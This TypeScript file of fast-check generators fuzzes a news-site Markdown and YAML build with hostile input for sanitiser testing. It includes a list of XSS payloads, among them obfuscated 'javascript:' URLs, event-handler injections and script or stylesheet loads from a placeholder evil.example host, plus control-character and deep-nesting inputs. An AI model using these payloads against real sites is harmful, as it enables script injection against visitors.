/**
 * fast-check arbitraries for hostile and broken content (issue #16): control characters, lone
 * surrogates, markup, `javascript:` in its obfuscations, very long runs, deep nesting, emoji- and
 * punctuation-only names, Unicode normalisation variants, and whole article files built from them.
 *
 * Front matter is written so that every value arrives exactly as generated: as a YAML double-quoted
 * scalar in which everything outside printable ASCII is a `\uXXXX` escape (a lone surrogate or a
 * control character cannot appear raw in YAML, but an escape delivers it), or through js-yaml's
 * own `dump`. Bodies are written raw.
 */
import fc from 'fast-check';
import yaml from 'js-yaml';

// ---------------------------------------------------------------------------------------------
// Characters

const char = (code: number): string => String.fromCharCode(code);

/** C0 controls (U+0000–U+001F) and DEL, biased towards the ones that slip through most often. */
export const c0Control: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: fc.constantFrom('\u000b', '\u0008', '\u0000', '\u001b', '\u000c', '\u0007') },
  { weight: 3, arbitrary: fc.integer({ min: 0, max: 0x1f }).map(char) },
  { weight: 1, arbitrary: fc.constant('\u007f') },
);

/** C1 controls (U+0080–U+009F), among them NEL (U+0085), which some tools take for a line break. */
export const c1Control: fc.Arbitrary<string> = fc.oneof(
  fc.constant('\u0085'),
  fc.integer({ min: 0x80, max: 0x9f }).map(char),
);

/** Any C0 or C1 control character. */
export const controlChar: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: c0Control },
  { weight: 1, arbitrary: c1Control },
);

/** A lone surrogate half, as a YAML escape such as "\ud83d" yields it. */
export const loneSurrogate: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('\ud83d', '\ude00', '\udfff', '\ud800'),
  fc.integer({ min: 0xd800, max: 0xdfff }).map(char),
);

/** Characters that are invisible or reorder text: zero-width, bidi overrides, BOM, line and paragraph separators. */
export const invisibleChar: fc.Arbitrary<string> = fc.constantFrom(
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u202e',
  '\u2066',
  '\u2028',
  '\u2029',
  '\u00a0',
  '\u3000',
  '\u00ad',
  '\ufffe',
  '\uffff',
);

// ---------------------------------------------------------------------------------------------
// Markup and URLs

/** HTML that would run script, redirect, or fool Warta's own markers if it survived. */
export const MARKUP_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>/*',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="a">',
  '<img alt="<!--baca-juga-0-->" src=x>',
  '<img alt="<!--baca-juga-0-->" src="x" onerror="alert(1)">',
  '<!--baca-juga-0-->',
  '<!--baca-juga-1--><!--baca-juga-0-->',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/embed"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">klik</a>',
  '<a href="&#106;avascript:alert(1)">klik</a>',
  '<a href="jav&#x09;ascript:alert(1)">klik</a>',
  '<a href=" javascript:alert(1)">klik</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
  '<a href="vbscript:msgbox(1)">klik</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<video><source onerror=alert(1)></video>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><x/>',
  ']]>',
  '</channel></rss>',
  '</script>',
  '"}</script><script>alert(1)</script>',
  '{"@context":"https://schema.org"}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#0000060script&#0000062',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</script>',
  '<a href="/berita/x/" onclick="alert(1)">x</a>',
  '<img src="/a.jpg" alt="x" onload="alert(1)">',
];

/** One HTML payload. */
export const markup: fc.Arbitrary<string> = fc.constantFrom(...MARKUP_PAYLOADS);

/** Changes the case of each letter at random. */
const randomCase = (text: string): fc.Arbitrary<string> =>
  fc
    .array(fc.boolean(), { minLength: text.length, maxLength: text.length })
    .map((upper) => Array.from(text, (c, i) => (upper[i] ? c.toUpperCase() : c.toLowerCase())).join(''));

/** Where browsers tolerate junk inside a scheme: tab, line feed, carriage return. */
const schemeJunk = fc.constantFrom('\t', '\n', '\r', '\t\n');

/** "javascript:" with a tab, newline or carriage return inserted somewhere in the scheme. */
const splitScheme: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 1, max: 9 }), schemeJunk)
  .map(([at, junk]) => `${'javascript'.slice(0, at)}${junk}${'javascript'.slice(at)}:alert(1)`);

/** "javascript:" with some of its letters as HTML character references (&#106; &#x6A; &#0000106). */
const entityScheme: fc.Arbitrary<string> = fc
  .array(fc.constantFrom('raw', 'dec', 'hex', 'pad'), { minLength: 11, maxLength: 11 })
  .map((kinds) =>
    Array.from('javascript:', (c, i) => {
      const code = c.charCodeAt(0);
      switch (kinds[i]) {
        case 'dec':
          return `&#${code};`;
        case 'hex':
          return `&#x${code.toString(16)};`;
        case 'pad':
          return `&#000${code}`;
        default:
          return c;
      }
    })
      .join('')
      .concat('alert(1)'),
  );

/** URLs that would run script or load foreign content if they reached an attribute. */
export const dangerousUrl: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'javascript:alert(document.domain)//',
    'javascript://%0aalert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u0000javascript:alert(1)',
    '\u000bjavascript:alert(1)',
    '\u00a0javascript:alert(1)',
    'java\u0000script:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A;avascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    '%6Aavascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'DATA:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'vbscript:msgbox(1)',
    'VBScript:msgbox(1)',
    '//evil.example/x.jpg',
    'https://evil.example/x.jpg" onerror="alert(1)',
    "https://evil.example/x.jpg' onerror='alert(1)",
    '/images/a.jpg"><script>alert(1)</script>',
    'x" onerror="alert(1)',
  ),
  randomCase('javascript:alert(1)'),
  randomCase('vbscript:msgbox(1)'),
  randomCase('data:text/html,x'),
  splitScheme,
  entityScheme,
  fc
    .tuple(fc.array(fc.oneof(controlChar, fc.constant(' ')), { minLength: 1, maxLength: 4 }), randomCase('javascript'))
    .map(([lead, scheme]) => `${lead.join('')}${scheme}:alert(1)`),
);

/** URLs an editor might legitimately write, some of them odd. */
export const benignUrl: fc.Arbitrary<string> = fc.constantFrom(
  'https://contoh.example/berita/satu',
  'http://contoh.example/a?b=c&d=e',
  '/images/foto.jpg',
  'https://cdn.contoh.example/foto%20besar.jpg',
  'https://contoh.example/path/with spaces.jpg',
  'https://xn--bcher-kva.example/',
  'https://contoh.example/#frag',
);

// ---------------------------------------------------------------------------------------------
// Shapes

/** Characters whose long runs have made Markdown and regex code backtrack. */
export const RUN_CHARS: readonly string[] = [
  ' ',
  '-',
  '*',
  '_',
  '[',
  ']',
  '<',
  '>',
  '`',
  '~',
  '#',
  '=',
  '|',
  '\t',
  '!',
  '(',
  '\\',
  '&',
];

/** A long run of one character. */
export const longRun = (maxLength = 5_000): fc.Arbitrary<string> =>
  fc.tuple(fc.constantFrom(...RUN_CHARS), fc.integer({ min: 100, max: maxLength })).map(([c, n]) => c.repeat(n));

/** Deeply nested blockquotes or elements. */
export const deepNesting = (maxDepth = 3_000): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom('blockquote', 'spaced-blockquote', 'div', 'span', 'list', 'emphasis', 'link'),
      fc.oneof(fc.constantFrom(10, 100, 500), fc.constant(maxDepth), fc.integer({ min: 2, max: maxDepth })),
    )
    .map(([kind, depth]) => {
      switch (kind) {
        case 'blockquote':
          return `${'>'.repeat(depth)} kutipan`;
        case 'spaced-blockquote':
          return `${'> '.repeat(depth)}kutipan`;
        case 'div':
          return `${'<div>'.repeat(depth)}isi${'</div>'.repeat(depth)}`;
        case 'span':
          return `teks ${'<span>'.repeat(depth)}isi${'</span>'.repeat(depth)}`;
        case 'list':
          return Array.from({ length: Math.min(depth, 400) }, (_, i) => `${'  '.repeat(i)}- butir`).join('\n');
        case 'emphasis':
          return `${'*'.repeat(depth)}isi${'*'.repeat(depth)}`;
        default:
          return `${'['.repeat(depth)}isi${'](/berita/x/)'.repeat(depth)}`;
      }
    });

/** Names with no letter or digit at all. */
export const emojiOnly: fc.Arbitrary<string> = fc.constantFrom('😀', '🎉🎉', '🇮🇩', '👨‍👩‍👧', '❤️', '🙏🏽', '🤖💥', '⭐');
export const punctuationOnly: fc.Arbitrary<string> = fc.constantFrom(
  '!!!',
  '---',
  '...',
  '"\'',
  '&',
  '&&',
  '§¶',
  '?!',
  '“”',
  '—',
  '•',
  '#',
  '@',
  '()',
  '<>',
  '/',
);

/** The same words in NFC and NFD, plus compatibility forms that fold differently. */
export const normalisationVariant: fc.Arbitrary<string> = fc
  .constantFrom(
    'Café Jakarta',
    'Pemilu Ñusantara',
    'Ekonomi Ḍigital',
    'Kerjasama Việt Nam',
    'ﬁnansial',
    'Ｊａｋａｒｔａ',
    'Ⅻ',
    'İstanbul',
  )
  .chain((word) => fc.constantFrom(word, word.normalize('NFD'), word.normalize('NFKC'), word.normalize('NFKD')));

/** Strings of exactly 300 characters (UTF-16 units for the last form). */
export const length300: fc.Arbitrary<string> = fc.oneof(
  fc.constant('a'.repeat(300)),
  fc.constant('Kata '.repeat(60)),
  fc.constant('😀'.repeat(150)),
  fc.string({ unit: 'grapheme-ascii', minLength: 300, maxLength: 300 }),
  fc.string({ unit: 'binary', minLength: 300, maxLength: 300 }),
);

/** Ordinary Indonesian words, to mix with the hostile parts. */
export const benignWord: fc.Arbitrary<string> = fc.constantFrom(
  'Jakarta',
  'banjir',
  'Harga Cabai',
  'Presiden',
  'Pemilu 2024',
  'Korea Utara',
  'ekonomi',
  'KPK',
);

/** One hostile fragment. */
export const hostileFragment: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: controlChar },
  { weight: 2, arbitrary: loneSurrogate },
  { weight: 1, arbitrary: invisibleChar },
  { weight: 3, arbitrary: markup },
  { weight: 2, arbitrary: dangerousUrl },
  { weight: 1, arbitrary: longRun(2_000) },
  { weight: 1, arbitrary: emojiOnly },
  { weight: 1, arbitrary: punctuationOnly },
  { weight: 1, arbitrary: normalisationVariant },
  { weight: 2, arbitrary: benignWord },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
);

/** A hostile string for a front matter field: one fragment, several glued together, or a 300-character string. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileFragment },
  { weight: 4, arbitrary: fc.array(hostileFragment, { minLength: 2, maxLength: 5 }).map((parts) => parts.join('')) },
  { weight: 2, arbitrary: fc.tuple(benignWord, hostileFragment, benignWord).map((parts) => parts.join(' ')) },
  { weight: 1, arbitrary: length300 },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '\t', '\u00a0', '\u200b') },
);

/** A category or tag name: emoji-only, punctuation-only, normalisation variants, or any hostile string. */
export const hostileName: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: emojiOnly },
  { weight: 2, arbitrary: punctuationOnly },
  { weight: 1, arbitrary: normalisationVariant },
  { weight: 1, arbitrary: length300 },
  { weight: 4, arbitrary: hostileString },
);

/** A value for a URL field: obfuscated dangerous schemes, odd but harmless URLs, or any hostile string. */
export const hostileUrl: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: dangerousUrl },
  { weight: 2, arbitrary: benignUrl },
  { weight: 2, arbitrary: hostileString },
);

/** Dates: mostly valid, some impossible, some hostile. */
export const hostileDate: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '2024-02-30',
    '2024-13-01',
    '0000-00-00',
    '9999-12-31T23:59:59+14:00',
    '+275760-09-13T00:00:00Z',
    '2024-12-20T10:00:00+07:00\u0000',
    '2024-12-20\u000b',
    ' 2024-12-20 ',
    '２０２４-１２-２０',
    '2024-12-20T25:61:00',
    '1969-12-31T23:59:59Z',
    '2024-12-20T10:00:00+99:00',
  ),
  hostileString,
);

// ---------------------------------------------------------------------------------------------
// Articles

/** Slug and title of the well-formed companion article every hostile one may link to. */
export const COMPANION = { slug: 'pendamping', title: 'Berita Pendamping Uji', category: 'Pendamping Uji' } as const;

/** Publication date of generated articles, and dates around it for `updated`. */
export const ARTICLE_DATE = '2024-12-20T10:00:00+07:00';
const EARLIER = ['2024-12-19T10:00:00+07:00', '2024-12-20T09:59:00+07:00', '2020-01-01'];
const LATER = ['2024-12-20T10:00:00+07:00', '2024-12-21 08:00', '2024-12-20T11:30:00+07:00'];

/** One Markdown block of a hostile body. */
export const hostileBlock: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'Paragraf berita biasa tentang banjir di pesisir.',
      'Presiden menyatakan hal itu kepada wartawan.',
    ),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom('JAKARTA', 'KUALA LUMPUR', 'JAKARTA, KOMPAS.com'),
        fc.constantFrom(' - ', ',', ' —', ' -'),
        hostileString,
      )
      .map(([city, dash, rest]) => `${city}${dash}${rest}`),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('JAKARTA,', 'JAKARTA', 'JAKARTA, KOMPAS.com'),
        longRun(3_000),
        fc.constantFrom('x', '- isi', ''),
      )
      .map(([city, run, rest]) => `${city}${run}${rest}`),
  },
  { weight: 2, arbitrary: fc.constant(`Baca juga:\n\n- [Pendamping](${COMPANION.slug}.md)`) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('Baca juga', 'BACA JUGA:', 'Baca  juga :'), longRun(3_000), fc.constantFrom('', 'x', ':'))
      .map(([label, run, end]) => `${label}${run}${end}\n\n- ${COMPANION.title}`),
  },
  { weight: 1, arbitrary: hostileString.map((s) => `Baca juga:\n\n- ${s}`) },
  { weight: 3, arbitrary: markup },
  { weight: 2, arbitrary: fc.tuple(hostileString, markup, hostileString).map((parts) => parts.join(' ')) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.constantFrom('link', 'image', 'autolink', 'reference', 'a', 'img', 'iframe'), hostileUrl)
      .map(([kind, url]) => {
        switch (kind) {
          case 'link':
            return `Lihat [tautan](${url}) ini.`;
          case 'image':
            return `![gambar](${url})`;
          case 'autolink':
            return `<${url}>`;
          case 'reference':
            return `Lihat [tautan][r].\n\n[r]: ${url}`;
          case 'a':
            return `<a href="${url}">tautan</a>`;
          case 'img':
            return `<img src="${url}" alt="gambar">`;
          default:
            return `<iframe src="${url}" title="x"></iframe>`;
        }
      }),
  },
  { weight: 2, arbitrary: hostileString },
  { weight: 1, arbitrary: longRun(5_000) },
  { weight: 1, arbitrary: deepNesting(3_000) },
  {
    weight: 1,
    arbitrary: fc.array(controlChar, { minLength: 1, maxLength: 20 }).map((cs) => `Teks${cs.join('')}kendali`),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '```\n<script>alert(1)</script>\n```',
      '`<!--baca-juga-0-->`',
      '    <script>alert(1)</script>',
      '| a | b |\n| - | - |\n| <script>x</script> | [x](javascript:alert(1)) |',
    ),
  },
);

/** A Markdown body: one to six hostile or ordinary blocks. */
export const hostileBody: fc.Arbitrary<string> = fc
  .tuple(fc.array(hostileBlock, { minLength: 1, maxLength: 6 }), fc.constantFrom('\n\n', '\n'))
  .map(([blocks, sep]) => blocks.join(sep));

/** Front matter values of a hostile article; `undefined` fields are left out of the file. */
export interface HostileFrontMatter {
  readonly title: string;
  readonly date: string;
  readonly category: string;
  readonly tags: readonly string[] | undefined;
  readonly author: string | undefined;
  readonly dateline: string | undefined;
  readonly source: string | { readonly name: string; readonly url?: string } | undefined;
  readonly image:
    { readonly src: string; readonly alt: string; readonly caption?: string; readonly credit?: string } | undefined;
  readonly summary: string | undefined;
  readonly updated: string | undefined;
  readonly slug: string | undefined;
  readonly related: readonly string[] | undefined;
}

/** A generated article file: front matter values, body, and how the front matter is written. */
export interface HostileArticle {
  readonly front: HostileFrontMatter;
  readonly body: string;
  /** `escaped`: double-quoted scalars with \u escapes; `dump`: js-yaml's own dump. */
  readonly encoding: 'escaped' | 'dump';
}

const ordinaryName = fc.constantFrom('Nasional', 'Ekonomi', 'Internasional', 'Olahraga', 'Korea Utara', 'Pemilu 2024');

/** The front matter fields, each of which may be made hostile. */
export const FRONT_MATTER_FIELDS = [
  'title',
  'date',
  'category',
  'tags',
  'author',
  'dateline',
  'source',
  'image',
  'summary',
  'updated',
  'slug',
  'related',
] as const;
type Field = (typeof FRONT_MATTER_FIELDS)[number];

/** Ordinary front matter: required fields set, optional ones absent or ordinary. */
const ordinaryFront: fc.Arbitrary<HostileFrontMatter> = fc.record({
  title: fc.constantFrom('Judul Berita Biasa', 'Harga Cabai Naik Jelang Tahun Baru'),
  date: fc.constantFrom(ARTICLE_DATE, '2024-12-20 10:00', '2024-12-20'),
  category: ordinaryName,
  tags: fc.option(fc.array(ordinaryName, { minLength: 1, maxLength: 3 }), { nil: undefined }),
  author: fc.option(fc.constant('Redaksi Warta'), { nil: undefined }),
  dateline: fc.option(fc.constant('JAKARTA'), { nil: undefined }),
  source: fc.option(
    fc.constantFrom<HostileFrontMatter['source']>('ANTARA', {
      name: 'The Korea Times',
      url: 'https://www.koreatimes.co.kr/x',
    }),
    { nil: undefined },
  ),
  image: fc.option(
    fc.constant({ src: '/images/foto.jpg', alt: 'Warga mengungsi', caption: 'Keterangan', credit: 'ANTARA/Uji' }),
    { nil: undefined },
  ),
  summary: fc.option(fc.constant('Ringkasan berita biasa.'), { nil: undefined }),
  updated: fc.option(fc.constantFrom(...LATER), { nil: undefined }),
  slug: fc.constant(undefined),
  related: fc.option(fc.constant([COMPANION.slug]), { nil: undefined }),
});

/** A hostile value for every front matter field. */
const hostileFront: fc.Arbitrary<HostileFrontMatter> = fc.record({
  title: hostileString,
  date: hostileDate,
  category: hostileName,
  tags: fc.array(fc.oneof(hostileName, ordinaryName), { minLength: 1, maxLength: 4 }),
  author: hostileString,
  dateline: hostileString,
  source: fc.oneof(
    hostileString,
    fc.record({ name: fc.oneof(hostileString, fc.constant('ANTARA')), url: hostileUrl }, { requiredKeys: ['name'] }),
  ),
  image: fc.record(
    {
      src: hostileUrl,
      alt: fc.oneof(hostileString, fc.constant('Foto')),
      caption: hostileString,
      credit: hostileString,
    },
    { requiredKeys: ['src', 'alt'] },
  ),
  summary: hostileString,
  updated: fc.oneof(fc.constantFrom(...EARLIER), hostileDate),
  slug: fc.oneof(fc.constantFrom('slug-biasa', `${'a-'.repeat(150)}a`, 'a'.repeat(300)), hostileString),
  related: fc.array(fc.oneof(hostileString, fc.constant(COMPANION.slug)), { minLength: 1, maxLength: 2 }),
});

/**
 * A hostile article: an ordinary one in which up to four front matter fields, and often the body,
 * hold hostile values. Hostility is concentrated so that many builds still succeed and their output
 * can be checked; shrinking drops hostile fields one by one, so a counterexample names the culprit.
 */
export const hostileArticle: fc.Arbitrary<HostileArticle> = fc
  .record({
    ordinary: ordinaryFront,
    hostile: hostileFront,
    fields: fc.subarray([...FRONT_MATTER_FIELDS], { minLength: 0, maxLength: 4 }),
    // fc.option shrinks to its `nil`, the ordinary body, so a counterexample keeps a hostile body only when it matters.
    body: fc.option(hostileBody, { nil: 'JAKARTA - Paragraf berita biasa.', freq: 3 }),
    encoding: fc.constantFrom<HostileArticle['encoding']>('escaped', 'escaped', 'dump'),
  })
  .map(({ ordinary, hostile, fields, body, encoding }) => {
    const front: Record<Field, unknown> = { ...ordinary };
    for (const field of fields) front[field] = hostile[field];
    return { front: front as unknown as HostileFrontMatter, body, encoding };
  });

/**
 * A YAML double-quoted scalar that reads back as exactly `value`: printable ASCII as is (with `"`
 * and `\` escaped), everything else as `\uXXXX` per UTF-16 unit, so lone surrogates and control
 * characters arrive through escapes.
 */
export function yamlQuote(value: string): string {
  let out = '"';
  for (let i = 0; i < value.length; i++) {
    const code = value.charCodeAt(i);
    const unit = value.charAt(i);
    if (code === 0x22 || code === 0x5c) out += `\\${unit}`;
    else if (code >= 0x20 && code <= 0x7e) out += unit;
    else out += `\\u${code.toString(16).padStart(4, '0')}`;
  }
  return `${out}"`;
}

/** The front matter as a plain object, leaving out absent fields. */
export function frontMatterData(front: HostileFrontMatter): Record<string, unknown> {
  return Object.fromEntries(Object.entries(front).filter(([, value]) => value !== undefined));
}

function escapedYaml(data: Record<string, unknown>): string {
  const lines: string[] = [];
  for (const [key, value] of Object.entries(data)) {
    if (typeof value === 'string') lines.push(`${key}: ${yamlQuote(value)}`);
    else if (Array.isArray(value)) {
      lines.push(`${key}:`);
      for (const item of value as string[]) lines.push(`  - ${yamlQuote(item)}`);
    } else if (value && typeof value === 'object') {
      lines.push(`${key}:`);
      for (const [k, v] of Object.entries(value)) if (v !== undefined) lines.push(`  ${k}: ${yamlQuote(String(v))}`);
    }
  }
  return `${lines.join('\n')}\n`;
}

/** The article's file text: front matter, then the body. */
export function articleText(article: HostileArticle): string {
  const data = frontMatterData(article.front);
  const front = article.encoding === 'dump' ? yaml.dump(data, { lineWidth: -1, noRefs: true }) : escapedYaml(data);
  return `---\n${front}---\n\n${article.body}\n`;
}

/** The companion article's file text. */
export function companionText(): string {
  return `---\ntitle: "${COMPANION.title}"\ndate: 2024-12-19T08:00:00+07:00\ncategory: "${COMPANION.category}"\n---\n\nJAKARTA - Isi berita pendamping yang biasa saja.\n`;
}
